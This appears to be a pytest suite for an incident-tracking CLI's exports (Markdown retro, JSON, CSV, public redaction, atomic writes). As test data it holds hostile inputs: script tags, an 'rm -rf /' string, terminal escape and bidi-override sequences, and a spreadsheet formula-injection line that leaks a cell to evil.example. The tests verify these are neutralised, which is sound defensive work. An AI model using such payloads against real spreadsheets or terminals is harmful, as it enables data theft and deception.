"""Exports: the Markdown retro document (golden files), JSON, CSV, --public,
hostile text, and writing files atomically. Real SQLite stores, fixed clock.

Regenerate the golden files with WARROOM_UPDATE_GOLDEN=1, then read them."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import stat
import time
from collections import Counter
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from mdit_py_plugins.dollarmath import dollarmath_plugin
from mdit_py_plugins.tasklists import tasklists_plugin

from warroom.cli import commands as cli
from warroom.core.errors import UsageError
from warroom.core.model import NOTE_KINDS, to_iso
from warroom.core.policy import default_policy
from warroom.core.text import is_unsafe, one_line
from warroom.formats.export import (
    EXPORT_SCHEMA_VERSION,
    clocks_list,
    incident_dict,
    md_block,
    md_inline,
    render_export,
    write_atomic,
)
from warroom.store import Store

GOLDEN = Path(__file__).parent / "golden"
UPDATE_GOLDEN = os.environ.get("WARROOM_UPDATE_GOLDEN") == "1"
MARKER = "PRIVATE-MARKER-4F7Q"

# Everything a note could do to a Markdown document.
HOSTILE = [
    "a | b | c",
    "use `rm -rf /` now ``",
    "<script>alert(1)</script>",
    "# Heading\n## Another\n- item\n1. numbered\n---\n===\n    indented code",
    "[link](http://evil.example) ![img](http://evil.example/x.png) <http://auto.example>",
    "\x1b[31mred\x1b[0m and a bell\x07 and DEL\x7f and CSI\x9b2J",
    "*bold* _em_ __strong__ ~~strike~~ $math$ snake_case_name",
    "```\nfenced\n```\n~~~",
    "> quoted\n| --- | --- |\r\nwindows line\rold mac",
    "trailing backslash \\",
    "&amp; &lt;b&gt; entities <!-- comment -->",
    "line\u2028separator\u2029paragraph",
    "\u202eRTL override\u2066 isolate\u200b zero\u200c width \ufeffbom, "
    "joined \U0001f469\u200d\U0001f4bb",
]


# ------------------------------------------------------------------ helpers
class SeedClock:
    """The seed's clock (tests then get conftest's clock, moved to where it ended)."""

    def __init__(self) -> None:
        self.now = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)

    def __call__(self) -> datetime:
        return self.now

    def advance(self, **delta: float) -> datetime:
        self.now += timedelta(**delta)
        return self.now


@pytest.fixture
def tz(monkeypatch):
    """Set the process's local time zone for one test: tz("America/New_York")."""

    def _set(name: str) -> None:
        monkeypatch.setenv("TZ", name)
        time.tzset()

    yield _set
    monkeypatch.undo()
    time.tzset()


def seed(open_store, clock) -> int:
    """A closed P1 incident with a full retro, written by three people."""
    alice = open_store(identity="alice")
    bob = open_store(identity="bob")
    carol = open_store(identity="carol")
    incident = alice.declare(
        "Checkout returns 500 for EU users",
        "regression",
        "P2",
        reported_at=clock() - timedelta(minutes=25),
    )
    iid = incident.id
    alice.assign(iid, "Lead", "alice")
    alice.assign(iid, "Scribe", "dan")
    alice.assign(iid, "Responder", "erin")
    alice.assign(iid, "Responder", "frank")
    clock.advance(minutes=3)
    alice.set_check(iid, "a1", True)
    bob.set_check(iid, "a5", True)
    bob.set_check(iid, "i5", True)
    bob.set_check(iid, "i5", False)
    clock.advance(minutes=2)
    evidence = bob.add_entry(iid, "5xx rate at 12% on checkout-api since 11:30", "evidence")
    alice.add_entry(iid, "Paged the payments on-call", "note")
    clock.advance(minutes=4)
    alice.record_milestone(iid, "acknowledge")
    alice.set_priority(iid, "P1")
    bob.correct(evidence.id, "5xx rate at 14% on checkout_api since 11:30 (EU only)")
    alice.assign(iid, "Lead", "carol")
    carol.assign(iid, "Communicator", "frank")
    clock.advance(minutes=6)
    carol.add_entry(iid, "Roll back release 2026.03.10-1", "decision")
    carol.save_draft(iid, "Checkout is failing for EU customers.", 0)
    carol.publish_update(
        iid,
        "Impact: EU customers cannot check out.\n\n"
        "- Cause: a faulty release\n- Next: rollback in progress\n"
        "Next update by 13:30 UTC.",
    )
    clock.advance(minutes=10)
    bob.add_entry(
        iid, "Rolled back checkout-api to 2026.03.09-3", "change",
        occurred_at=clock() - timedelta(minutes=3),
    )  # fmt: skip
    alice.record_milestone(iid, "triage")
    alice.unassign(iid, "Responder", "erin")
    alice.set_stage(iid, "Recover")
    carol.save_draft(iid, "Recovered; watching error rates.", 1)
    clock.advance(minutes=30)
    alice.close_incident(iid, "Rolled back the release; the error rate is back to 0.1%.")
    clock.advance(hours=20)
    alice.save_why(
        iid, 1, "Why did checkout return 500 for EU users?", "The EU tax table was empty."
    )
    alice.save_why(iid, 2, "Why was the table empty?", "The migration ran before the data load.")
    alice.save_why(iid, 3, "Why did CI not catch it?", "")
    alice.set_root_cause(
        iid,
        "Migration order: the schema change for `tax_eu` shipped without its data.\n"
        "CI has no EU fixture.",
    )
    done = alice.add_action(iid, "Add an EU tax fixture to CI", "bob", date(2026, 3, 20), "OPS-12")
    alice.add_action(iid, "Order migrations before data loads", "", None, "")
    alice.set_action_done(done.id)
    alice.record_milestone(iid, "retro")
    return iid


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> tuple[Path, datetime]:
    """The seeded database, written once (every write is an fsync) and copied per test."""
    path = tmp_path_factory.mktemp("template") / "warroom.db"
    clock = SeedClock()
    stores: list[Store] = []

    def _open(identity: str) -> Store:
        stores.append(Store.open(path, default_policy(), identity, clock=clock))
        return stores[-1]

    seed(_open, clock)
    for store in stores:
        store.close()  # the last close checkpoints the WAL into the file
    return path, clock()


@pytest.fixture
def seeded(template, db_file, clock, open_store) -> tuple[Store, int]:
    """The seeded incident in this test's own database file, as alice, clock at its end."""
    shutil.copy2(template[0], db_file)
    clock.now = template[1]
    return open_store(identity="alice"), 1


def export(store, iid, fmt="md", public=False, now=None) -> str:
    return render_export(store.bundle(iid), store.policy, fmt, public, now or store.clock())


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if UPDATE_GOLDEN:
        path.parent.mkdir(exist_ok=True)
        path.write_text(text, encoding="utf-8")
    assert path.exists(), f"no golden file {path}; run with WARROOM_UPDATE_GOLDEN=1"
    assert text == path.read_text(encoding="utf-8")


MD = (
    MarkdownIt("commonmark")
    .enable(["table", "strikethrough"])
    .use(tasklists_plugin)
    .use(dollarmath_plugin)
)
# What a document of ours may contain once parsed; user text must add nothing.
BLOCK_TYPES = {
    "heading_open", "heading_close", "paragraph_open", "paragraph_close", "inline",
    "bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close",
    "blockquote_open", "blockquote_close", "table_open", "table_close", "thead_open",
    "thead_close", "tbody_open", "tbody_close", "tr_open", "tr_close", "th_open", "th_close",
    "td_open", "td_close",
}  # fmt: skip
INLINE_TYPES = {
    "text", "softbreak", "hardbreak", "strong_open", "strong_close", "em_open", "em_close",
    "html_inline",  # the tasklists plugin's checkbox only; checked below
}  # fmt: skip


def plain(inline) -> str:
    parts = []
    for child in inline.children or []:
        if child.type == "text":
            parts.append(child.content)
        elif child.type in ("softbreak", "hardbreak"):
            parts.append("\n")
    return "".join(parts)


def parse(doc: str) -> dict:
    """The document through a real CommonMark+GFM parser: headings and tables."""
    tokens = MD.parse(doc)
    headings, tables, row, table = [], [], None, None
    for n, tok in enumerate(tokens):
        assert tok.type in BLOCK_TYPES, (tok.type, tok.content)
        if tok.type == "inline":
            for child in tok.children or []:
                assert child.type in INLINE_TYPES, (child.type, child.content, tok.content)
                if child.type == "html_inline":
                    assert 'class="task-list-item-checkbox"' in child.content
        if tok.type == "heading_open":
            headings.append((tok.tag, plain(tokens[n + 1])))
        elif tok.type == "table_open":
            table = []
        elif tok.type == "table_close":
            tables.append(table)
        elif tok.type == "tr_open":
            row = []
        elif tok.type == "tr_close":
            table.append(row)
        elif (
            tok.type == "inline"
            and row is not None
            and tokens[n - 1].type in ("td_open", "th_open")
        ):
            row.append(plain(tok))
    return {"headings": headings, "tables": tables}


def table_with(parsed: dict, first_header: str) -> list[list[str]]:
    return next(t for t in parsed["tables"] if t[0][0] == first_header)


def as_shown(text: str) -> str:
    """How a note reads in a table cell: one line, controls as pictures."""
    return one_line(text.replace("\u2028", "\n").replace("\u2029", "\n")).strip(" ")


def unescaped_pipes(line: str) -> int:
    count, escaped = 0, False
    for ch in line:
        if escaped:
            escaped = False
        elif ch == "\\":
            escaped = True
        elif ch == "|":
            count += 1
    return count


# -------------------------------------------------------------- golden files
def test_markdown_golden_utc(seeded):
    store, iid = seeded
    doc = export(store, iid)
    check_golden("incident.md", doc)


def test_markdown_golden_new_york(seeded, tz):
    store, iid = seeded
    tz("America/New_York")
    doc = export(store, iid)
    check_golden("incident-new-york.md", doc)
    # The timeline shows local time with the date and the zone, and UTC beside it.
    assert "| #1 | 2026-03-10 08:00:00 EDT | 2026-03-10 12:00:00 UTC | system | alice |" in doc
    assert "| Reported | 2026-03-10 07:35:00 EDT | 2026-03-10 11:35:00 UTC | — |" in doc


def test_markdown_golden_public(seeded):
    store, iid = seeded
    check_golden("incident-public.md", export(store, iid, public=True))


def test_local_time_follows_the_process_time_zone(seeded, tz):
    store, iid = seeded
    tz("Asia/Kolkata")
    assert "| #1 | 2026-03-10 17:30:00 IST | 2026-03-10 12:00:00 UTC |" in export(store, iid)
    tz("UTC")
    assert "| #1 | 2026-03-10 12:00:00 UTC | 2026-03-10 12:00:00 UTC |" in export(store, iid)


# ------------------------------------------------------ the document itself
def test_markdown_reads_as_a_retro(seeded):
    store, iid = seeded
    doc = export(store, iid)
    parsed = parse(doc)
    assert [h for _, h in parsed["headings"]] == [
        "Incident 1: Checkout returns 500 for EU users",
        "Resolution",
        "Key times",
        "SLA clocks",
        "Roles",
        "Role changes",
        "Checklist",
        "Root cause",
        "Five whys",
        "Action items",
        "Tasks",
        "Stakeholder updates",
        "Update 1 — 2026-03-10 12:15:00 UTC, by carol",
        "Changes applied",
        "Unpublished draft",
        "Timeline",
    ]
    times = {row[0]: row[1:] for row in table_with(parsed, "Milestone")}
    assert times["Acknowledged"] == ["2026-03-10 12:09:00 UTC", "2026-03-10 12:09:00 UTC", "+34m"]
    assert times["Closed"][2] == "+1h 20m"
    clocks = {row[0]: row[1:] for row in table_with(parsed, "Clock")}
    assert clocks["acknowledge"][2:] == ["missed", "4m late"]
    assert clocks["triage"][2:] == ["met", "10m before the deadline"]
    handoffs = table_with(parsed, "When")
    assert ["2026-03-10 12:09:00 UTC", "Lead", "carol", "alice", "alice"] in handoffs
    assert ["2026-03-10 12:25:00 UTC", "Responder", "—", "erin", "alice"] in handoffs
    assert "- [x] **a1** Availability: System availability in question — ticked by alice" in doc
    assert "**i5**" not in doc  # ticked, then unticked
    assert "- **Why 1:** Why did checkout return 500 for EU users? → The EU tax table" in doc
    assert "- [x] Add an EU tax fixture to CI — owner: bob · due 2026-03-20 · ticket: OPS-12" in doc
    assert "- [ ] Order migrations before data loads — no owner" in doc
    assert "> Recovered; watching error rates." in doc  # the draft, in the full document

    timeline = table_with(parsed, "Entry")
    assert timeline[0] == ["Entry", "Local time", "UTC", "Kind", "Who", "Text"]
    rows = timeline[1:]
    assert len(rows) == len(store.timeline(iid))
    stamps = [r[2] for r in rows]
    assert stamps == sorted(stamps)  # chronological, backdated entries in place
    texts = {r[0]: r[5] for r in rows}
    assert texts["#10"].startswith("(superseded by #14) 5xx rate at 12%")
    assert texts["#14"].startswith("(correction of #10) 5xx rate at 14% on checkout_api")


def test_multiline_update_keeps_its_lines(seeded):
    store, iid = seeded
    doc = export(store, iid)
    assert (
        "> Impact: EU customers cannot check out.\n>\n> \\- Cause: a faulty release\\\n"
        "> \\- Next: rollback in progress\\\n> Next update by 13:30 UTC.\n"
    ) in doc


def test_open_incident_shows_running_clocks_and_next_update(open_store, clock):
    store = open_store()
    incident = store.declare("Disk filling up", "performance", "P2",
                             reported_at=clock() - timedelta(hours=5))  # fmt: skip
    doc = export(store, incident.id)
    assert "| acknowledge | 4h |" in doc
    assert "| still running: overdue | 1h past the deadline |" in doc
    assert "| still running: running | 7h left |" in doc
    assert "Next stakeholder update due 2026-03-10 11:00:00 UTC (overdue)." in doc
    assert "## Resolution" not in doc
    assert "| Closed | not recorded | — | — |" in doc
    assert "_No update was published._" in doc
    assert "_No checklist item was ticked._" in doc


def test_clock_stopped_by_closing(open_store, clock):
    store = open_store()
    iid = store.declare("Blip", "regression", "P3").id
    clock.advance(hours=2)
    store.close_incident(iid, "Went away")
    doc = export(store, iid)
    assert (
        "| triage | 1d | 2026-03-11 12:00:00 UTC | stopped |"
        " never recorded; the incident closed 22h before the deadline |"
    ) in doc


# ------------------------------------------------------------------- hostile
@pytest.fixture
def hostile(open_store, clock):
    evil = "ev|l `x` <b>"  # a legal name: names only refuse control characters
    store = open_store(identity=evil)
    iid = store.declare("# Title | with `code` <script>x</script> [a](b) #", "regression", "P1").id
    ids = []
    for n, text in enumerate(HOSTILE):
        ids.append(store.add_entry(iid, text, NOTE_KINDS[n % len(NOTE_KINDS)]).id)
    store.correct(ids[0], "| corrected | `x` <i>")
    store.assign(iid, "Lead", "<b>|lead|</b>")
    store.publish_update(iid, "\n".join(HOSTILE))
    store.save_draft(iid, "\n".join(HOSTILE), 0)
    for n, text in enumerate(HOSTILE[:5], 1):
        store.save_why(iid, n, text, text)
    store.set_root_cause(iid, "\n".join(HOSTILE))
    for text in HOSTILE[:4]:
        store.add_action(iid, text.replace("\n", " ") or "x", "o|wner", None, "T-1 | `x`")
    store.set_public_title(iid, "Public # title | with `code` <i>x</i> [a](b) #")
    store.set_root_cause_public(iid, True)
    store.close_incident(iid, "\n".join(HOSTILE[:4]))
    return store, iid


HEADING = re.compile(
    r"^(# Incident \d+: .*|## (Resolution|Key times|SLA clocks|Roles|Role changes|Checklist"
    r"|Root cause|Five whys|Action items|Tasks|Stakeholder updates|Changes applied"
    r"|Unpublished draft|Timeline|Updates)"
    r"|### Update \d+ — .*)$"
)


@pytest.mark.parametrize("public", [False, True])
def test_hostile_text_cannot_break_the_document(hostile, public):
    store, iid = hostile
    doc = export(store, iid, public=public)
    lines = doc.split("\n")
    # Tables keep their column count on every row.
    in_table, columns = False, 0
    for line in lines:
        if line.startswith("|"):
            if not in_table:
                in_table, columns = True, unescaped_pipes(line)
            assert unescaped_pipes(line) == columns, line
        else:
            in_table = False
    assert "<" not in doc  # no raw HTML of any kind, <script> included
    assert "`" not in doc.replace("\\`", "")
    for line in lines:
        if line.startswith("#"):
            assert HEADING.match(line), line
    assert not [ch for ch in doc if ord(ch) < 0x20 and ch != "\n"]  # no ESC, no CR
    assert not [ch for ch in doc if 0x7F <= ord(ch) < 0xA0]
    assert "\u2028" not in doc and "\u2029" not in doc
    # Direction changes and invisible characters as text.visible shows them.
    assert not [ch for ch in doc if is_unsafe(ch) and ch != "\n"]
    assert "\u2425RTL override\u2425 isolate\u2423 zero\u2423 width" in doc
    assert "\U0001f469\u200d\U0001f4bb" in doc  # a joiner that joins is kept
    assert len(doc.splitlines()) == len(lines) - 1  # no line break Python sees that we don't

    parsed = parse(doc)  # only our own structure, as a CommonMark parser sees it
    incident = store.get_incident(iid)
    title = incident.public_title if public else incident.title
    assert parsed["headings"][0] == ("h1", f"Incident {iid}: " + title)
    for table in parsed["tables"]:
        assert len({len(row) for row in table}) == 1, table
    if public:  # no table at all: the update and the root cause, as written
        assert [h for h in parsed["headings"] if h[0] == "h2"] == [
            ("h2", "Updates"), ("h2", "Root cause")
        ]  # fmt: skip
        assert not parsed["tables"]
        return
    # Every cell shows the text exactly as written (one line, controls pictured).
    rows = table_with(parsed, "Entry")[1:]
    shown = {int(r[0][1:]): r for r in rows}
    entries = store.timeline(iid)
    corrected = {e.supersedes for e in entries}
    for entry in entries:
        if entry.supersedes is None and entry.id not in corrected:
            assert shown[entry.id][4] == as_shown(entry.actor)
            assert shown[entry.id][5] == as_shown(entry.text), entry.text


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_renders_as_written(text):
    want = as_shown(text)
    tokens = MD.parse(md_inline(text, line_start=True))
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"]
    assert {c.type for c in tokens[1].children} <= {"text"}
    assert plain(tokens[1]) == want
    cell = MD.parse(f"| h |\n|---|\n| {md_inline(text)} |\n")
    assert sum(t.type == "td_open" for t in cell) == 1
    quote = MD.parse("\n".join(md_block(text, prefix="> ")))
    assert {t.type for t in quote} <= {
        "blockquote_open", "blockquote_close", "paragraph_open", "paragraph_close", "inline"
    }  # fmt: skip


def test_inline_escaping_stays_readable():
    assert (
        md_inline("checkout_api v2.1 - rate 12% (EU) #42")
        == "checkout_api v2.1 - rate 12% (EU) #42"
    )
    assert md_inline("- 1. #") == "- 1. #"
    assert md_inline("- 1. #", line_start=True) == "\\- 1. #"
    assert md_inline("12. x", line_start=True) == "12\\. x"


# -------------------------------------------------------------------- public
def test_public_leaves_out_every_private_note(seeded):
    store, iid = seeded
    for kind in NOTE_KINDS:
        store.add_entry(iid, f"{kind}: {MARKER}", kind)
    original = store.add_entry(iid, "nothing to see", "note")
    store.correct(original.id, f"correction {MARKER}")
    update = next(e for e in store.timeline(iid) if e.kind == "update")
    store.correct(update.id, "Corrected update: EU and UK customers cannot check out.")
    store.save_draft(iid, f"draft {MARKER}", store.draft(iid).version)

    for fmt in ("md", "json"):
        assert MARKER in export(store, iid, fmt)
        assert MARKER not in export(store, iid, fmt, public=True)

    doc = export(store, iid, public=True)
    assert doc.splitlines()[2] == "> **Public version:** only what was published to stakeholders."
    assert "Private" not in export(store, iid)
    # What stays: the published update as it stands now (corrected in place).
    assert "Corrected update: EU and UK customers cannot check out." in doc
    assert "Impact: EU customers cannot check out." not in doc
    # What goes: system events, names, SLA results, roles, the retro, the draft.
    for private in ("Lead handed off", "carol", "| acknowledge |", "Why 1", "Root cause",
                    "EU tax fixture", "Unpublished draft", "## Timeline"):  # fmt: skip
        assert private not in doc, private

    data = json.loads(export(store, iid, "json", public=True))
    assert data["public"] is True
    assert set(data) == {"schema_version", "exported_at", "public", "incident", "updates"}
    assert [u["text"] for u in data["updates"]] == [
        "Corrected update: EU and UK customers cannot check out."
    ]


# ---------------------------------------------------------------------- JSON
def test_json_round_trip(seeded):
    store, iid = seeded
    now = store.clock()
    data = json.loads(export(store, iid, "json"))
    assert data["schema_version"] == EXPORT_SCHEMA_VERSION == 1
    assert data["exported_at"] == to_iso(now)
    incident = store.get_incident(iid)
    assert data["incident"] == {
        **incident_dict(incident),
        "public_title": "",
        "root_cause": incident.root_cause,
        "root_cause_public": False,
    }

    stored = store.timeline(iid)
    ids = [e["id"] for e in data["timeline"]]
    # The one order of every view: when it happened, ties in recording order.
    assert ids == [e.id for e in sorted(stored, key=lambda e: (e.occurred_at, e.id))]
    assert Counter(ids) == Counter(e.id for e in stored)
    assert set(Counter(ids).values()) == {1}
    exported = {e["id"]: e for e in data["timeline"]}
    for entry in stored:
        item = exported[entry.id]
        assert (item["text"], item["actor"], item["kind"]) == (entry.text, entry.actor, entry.kind)
        assert item["occurred_at"] == to_iso(entry.occurred_at)
        assert item["supersedes"] == entry.supersedes
        assert item["data"] == entry.data

    board = store.board(iid)
    assert [(r["role"], r["person"], r["assigned_by"], r["previous"]) for r in data["roles"]] == [
        (h.role, h.person, h.assigned_by, h.previous) for h in board.roles
    ]
    assert ("Lead", "carol", "alice", "alice") in [
        (r["role"], r["person"], r["assigned_by"], r["previous"]) for r in data["roles"]
    ]
    assert len(data["checklist"]) == len(store.policy.checklist)
    assert {c["id"] for c in data["checklist"] if c["ticked"]} == {"a1", "a5"}
    i5 = next(c for c in data["checklist"] if c["id"] == "i5")
    assert (i5["ticked"], i5["by"]) == (False, "bob")
    assert data["clocks"] == clocks_list(store.policy, incident, now)
    assert data["next_update_due"] is None  # closed
    assert data["draft"]["text"] == "Recovered; watching error rates."
    assert data["draft"]["version"] == 2 and data["draft"]["updated_by"] == "carol"

    retro = store.retro(iid)
    assert [(w["position"], w["question"], w["answer"]) for w in data["retro"]["whys"]] == [
        (w.position, w.question, w.answer) for w in retro.whys
    ]
    assert data["retro"]["root_cause"] == retro.root_cause
    actions = data["retro"]["action_items"]
    assert [
        (a["id"], a["title"], a["owner"], a["due"], a["ticket"], a["status"]) for a in actions
    ] == [
        (a.id, a.title, a.owner, a.due.isoformat() if a.due else None, a.ticket, a.status)
        for a in retro.actions
    ]
    assert actions[0]["completed_at"] == to_iso(now) and actions[1]["completed_at"] is None


def test_json_times_are_utc(seeded, tz):
    store, iid = seeded
    tz("America/New_York")
    text = export(store, iid, "json")
    assert text.endswith("}\n")
    stamps = re.findall(r'"(\d{4}-\d\d-\d\dT[^"]+)"', text)
    assert stamps and all(s.endswith("+00:00") for s in stamps)


# ----------------------------------------------------------------------- CSV
def test_csv_rows_are_the_action_items(seeded):
    store, iid = seeded
    store.add_action(iid, 'Quote "this", and\na newline', "erin", date(2026, 4, 1), "OPS-13")
    text = export(store, iid, "csv")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == ["id", "title", "owner", "due", "ticket", "status"]
    rows = list(reader)
    assert rows == [
        {
            "id": str(a.id),
            "title": a.title,
            "owner": a.owner,
            "due": a.due.isoformat() if a.due else "",
            "ticket": a.ticket,
            "status": a.status,
        }
        for a in store.action_items(iid)
    ]
    assert [r["status"] for r in rows] == ["done", "open", "open"]


def test_csv_cells_that_would_run_as_formulas_are_neutralised(seeded):
    store, iid = seeded
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    item = store.add_action(iid, hostile, "+cmd", None, "@SUM(1+1)")
    other = store.add_action(iid, "esc \x1b]52;c;aGk=\x07 in a title", "-x", None, "=1+1")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(export(store, iid, "csv"), newline=""))}
    assert rows[str(item.id)]["title"] == "'" + hostile
    assert rows[str(item.id)]["owner"] == "'+cmd"
    assert rows[str(item.id)]["ticket"] == "'@SUM(1+1)"
    assert rows[str(other.id)]["title"] == "esc \u241b]52;c;aGk=\u2407 in a title"
    assert rows[str(other.id)]["owner"] == "'-x" and rows[str(other.id)]["ticket"] == "'=1+1"
    # The store keeps what was typed; only the CSV cell is made inert.
    assert store.action_item(item.id).title == hostile


def test_json_escapes_what_a_terminal_would_act_on_and_keeps_the_data(seeded):
    store, iid = seeded
    note = "c1 \x9b2J bidi \u202e zero \u200b sep \u2028 emoji \U0001f469\u200d\U0001f4bb"
    store.add_entry(iid, note)
    text = export(store, iid, "json")
    assert "\\u009b" in text and "\\u202e" in text and "\\u200b" in text
    assert not any(ch in text for ch in "\x9b\u202e\u200b\u2028")
    assert note in [e["text"] for e in json.loads(text)["timeline"]]


def test_unknown_format_is_a_usage_error(seeded):
    store, iid = seeded
    with pytest.raises(UsageError):
        export(store, iid, "pdf")


# ------------------------------------------------------------- the real CLI
@pytest.fixture
def run(capsys):
    def _run(*args: str) -> tuple[int, str, str]:
        capsys.readouterr()
        code = cli.main(list(args))
        out, err = capsys.readouterr()
        return code, out, err

    return _run


def test_cli_refuses_to_overwrite_without_force(seeded, db_file, tmp_path, run):
    out = tmp_path / "out" / "retro.md"
    out.parent.mkdir()
    code, stdout, err = run("--db", str(db_file), "export", "1", "-f", "md", "-o", str(out))
    assert (code, err) == (0, "")
    assert stdout == f"{out}\n"
    first = out.read_bytes()
    assert first.startswith(b"# Incident 1: Checkout returns 500 for EU users\n")
    assert stat.S_IMODE(out.stat().st_mode) == 0o640

    out.write_text("hand edits\n")
    code, stdout, err = run("--db", str(db_file), "export", "1", "-f", "md", "-o", str(out))
    assert code == 2
    assert err == f"warroom: {out} exists; use --force to overwrite\n"
    assert out.read_text() == "hand edits\n"

    code, _, err = run("--db", str(db_file), "export", "1", "-f", "json", "-o", str(out), "--force")
    assert (code, err) == (0, "")
    assert json.loads(out.read_text())["schema_version"] == 1
    assert os.listdir(out.parent) == ["retro.md"]  # no temp files left behind


@pytest.mark.parametrize("fmt", ["md", "json", "csv"])
def test_cli_export_to_stdout(seeded, db_file, run, fmt):
    code, out, err = run("--db", str(db_file), "export", "1", "--format", fmt)
    assert (code, err) == (0, "")
    if fmt == "md":
        assert out.startswith("# Incident 1: ") and "## Timeline" in out
    elif fmt == "json":
        assert json.loads(out)["incident"]["id"] == 1
    else:
        assert out.splitlines()[0] == "id,title,owner,due,ticket,status"
        assert len(out.splitlines()) == 3
    code, public, _ = run("--db", str(db_file), "export", "1", "--format", fmt, "--public")
    assert code == 0
    if fmt != "csv":
        assert "Paged the payments on-call" in out
        assert "Paged the payments on-call" not in public


def test_cli_export_errors_are_one_line(seeded, db_file, tmp_path, run):
    code, _, err = run("--db", str(db_file), "export", "1", "-o", str(tmp_path / "no" / "x.md"))
    assert code == 2 and err.count("\n") == 1 and "does not exist" in err
    code, _, err = run("--db", str(db_file), "export", "1", "-o", str(tmp_path))
    assert code == 2 and err == f"warroom: {tmp_path} is a directory\n"
    code, _, err = run("--db", str(db_file), "export", "99")
    assert code == 2 and err.count("\n") == 1


# ------------------------------------------------------------- write_atomic
def test_write_atomic_mode_ignores_the_umask(tmp_path):
    tmp_path = tmp_path / "exports"
    tmp_path.mkdir()
    saved = os.umask(0o077)
    try:
        path = write_atomic(tmp_path / "a.md", "héllo\n")
    finally:
        os.umask(saved)
    assert path == tmp_path / "a.md"
    assert path.read_text(encoding="utf-8") == "héllo\n"
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert os.listdir(tmp_path) == ["a.md"]


def test_write_atomic_refusals(tmp_path):
    tmp_path = tmp_path / "exports"
    tmp_path.mkdir()
    target = tmp_path / "a.md"
    target.write_text("old")
    with pytest.raises(UsageError, match=r"exists; use --force to overwrite$"):
        write_atomic(target, "new")
    assert target.read_text() == "old"
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    with pytest.raises(UsageError, match="exists"):
        write_atomic(tmp_path / "dangling", "new")
    with pytest.raises(UsageError, match="is a directory"):
        write_atomic(tmp_path, "new", force=True)
    with pytest.raises(UsageError, match="does not exist"):
        write_atomic(tmp_path / "missing" / "a.md", "new")
    assert not (tmp_path / "missing").exists()
    assert write_atomic(target, "new", force=True).read_text() == "new"
    assert sorted(os.listdir(tmp_path)) == ["a.md", "dangling"]


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes anywhere")
def test_write_atomic_permission_denied(tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        with pytest.raises(UsageError) as info:
            write_atomic(locked / "a.md", "x")
    finally:
        locked.chmod(0o700)
    assert "\n" not in str(info.value) and "ermission denied" in str(info.value)
    assert os.listdir(locked) == []
